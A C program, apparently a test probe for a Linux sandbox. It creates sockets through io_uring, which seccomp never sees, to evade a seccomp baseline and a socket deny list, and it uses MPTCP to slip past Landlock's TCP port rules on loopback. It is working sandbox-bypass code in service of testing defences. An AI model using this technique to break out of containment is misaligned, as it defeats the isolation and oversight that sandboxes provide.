/*
 * Attack: create sockets through io_uring (IORING_OP_SOCKET), which seccomp
 * never sees, to get what the seccomp baseline or a policy's deny list
 * refuses.
 *
 *   baseline_uring mptcp BIND_PORT CONNECT_PORT
 *     An MPTCP socket (the baseline refuses socket(2) with IPPROTO_MPTCP
 *     when [net] restricts TCP): Landlock's TCP rules do not cover MPTCP,
 *     so it binds an undeclared port and connects where TCP cannot.
 *   baseline_uring tcp CONNECT_PORT
 *     A TCP socket under [seccomp] deny = ["socket"], connected.
 *   baseline_uring calls
 *     io_uring_enter and io_uring_register on fd -1: EBADF from the kernel,
 *     or the errno a filter answers first.
 *
 * Prints probe-style lines: "what: OK" or "what: ERRNO". Raw syscalls, no
 * liburing.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static void report(const char *what, int r) {
  if (r >= 0)
    printf("%s: OK\n", what);
  else
    printf("%s: %s\n", what, strerrorname_np(errno));
  fflush(stdout);
}

struct ring {
  int fd;
  unsigned *sq_tail, *sq_mask, *sq_array;
  unsigned *cq_head, *cq_tail, *cq_mask;
  struct io_uring_sqe *sqes;
  struct io_uring_cqe *cqes;
};

/* io_uring_setup and the three mappings; -1 with errno on failure. */
static int ring_open(struct ring *r) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
  if (r->fd < 0) return -1;
  size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  size_t len = sq_len > cq_len ? sq_len : cq_len;
  char *sq = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                  r->fd, IORING_OFF_SQ_RING);
  if (sq == MAP_FAILED) return -1;
  char *cq = sq;
  if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
    cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
              r->fd, IORING_OFF_CQ_RING);
    if (cq == MAP_FAILED) return -1;
  }
  r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
                 PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                 IORING_OFF_SQES);
  if (r->sqes == MAP_FAILED) return -1;
  r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
  r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
  r->sq_array = (unsigned *)(sq + p.sq_off.array);
  r->cq_head = (unsigned *)(cq + p.cq_off.head);
  r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
  r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
  r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  return 0;
}

/* IORING_OP_SOCKET: the new fd, or -1 with errno. */
static int ring_socket(struct ring *r, int domain, int type, int protocol) {
  unsigned tail = *r->sq_tail;
  unsigned idx = tail & *r->sq_mask;
  struct io_uring_sqe *sqe = &r->sqes[idx];
  memset(sqe, 0, sizeof *sqe);
  sqe->opcode = IORING_OP_SOCKET;
  sqe->fd = domain;
  sqe->off = (unsigned)type;
  sqe->len = (unsigned)protocol;
  r->sq_array[idx] = idx;
  __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
  if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL,
              0) < 0)
    return -1;
  unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
  if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
    errno = EAGAIN;
    return -1;
  }
  int res = r->cqes[head & *r->cq_mask].res;
  __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
  if (res < 0) {
    errno = -res;
    return -1;
  }
  return res;
}

static struct sockaddr_in loopback(int port) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)port);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return a;
}

static int do_bind(int fd, int port) {
  struct sockaddr_in a = loopback(port);
  return bind(fd, (struct sockaddr *)&a, sizeof a);
}

static int do_connect(int fd, int port) {
  struct sockaddr_in a = loopback(port);
  return connect(fd, (struct sockaddr *)&a, sizeof a);
}

int main(int argc, char **argv) {
  char what[64];
  struct ring ring;
  if (argc == 4 && strcmp(argv[1], "mptcp") == 0) {
    int bind_port = atoi(argv[2]), connect_port = atoi(argv[3]);
    report("socket mptcp", socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP));
    int tcp = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    snprintf(what, sizeof what, "tcp bind %d", bind_port);
    report(what, do_bind(tcp, bind_port));
    close(tcp);
    tcp = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    snprintf(what, sizeof what, "tcp connect %d", connect_port);
    report(what, do_connect(tcp, connect_port));
    close(tcp);
    int rc = ring_open(&ring);
    report("io_uring_setup", rc);
    if (rc < 0) return 0;
    int fd = ring_socket(&ring, AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
    report("uring socket mptcp", fd);
    if (fd < 0) return 0;
    snprintf(what, sizeof what, "uring mptcp bind %d", bind_port);
    report(what, do_bind(fd, bind_port));
    report("uring mptcp listen", listen(fd, 1));
    fd = ring_socket(&ring, AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
    snprintf(what, sizeof what, "uring mptcp connect %d", connect_port);
    report(what, fd < 0 ? fd : do_connect(fd, connect_port));
    return 0;
  }
  if (argc == 3 && strcmp(argv[1], "tcp") == 0) {
    int connect_port = atoi(argv[2]);
    report("socket tcp", socket(AF_INET, SOCK_STREAM, IPPROTO_TCP));
    int rc = ring_open(&ring);
    report("io_uring_setup", rc);
    if (rc < 0) return 0;
    int fd = ring_socket(&ring, AF_INET, SOCK_STREAM, IPPROTO_TCP);
    report("uring socket tcp", fd);
    if (fd < 0) return 0;
    snprintf(what, sizeof what, "uring tcp connect %d", connect_port);
    report(what, do_connect(fd, connect_port));
    return 0;
  }
  if (argc == 2 && strcmp(argv[1], "calls") == 0) {
    report("io_uring_enter", (int)syscall(__NR_io_uring_enter, -1, 0, 0, 0,
                                          NULL, 0));
    report("io_uring_register",
           (int)syscall(__NR_io_uring_register, -1, 0, NULL, 0));
    return 0;
  }
  fprintf(stderr, "usage: %s mptcp BIND_PORT CONNECT_PORT | tcp CONNECT_PORT | calls\n",
          argv[0]);
  return 2;
}
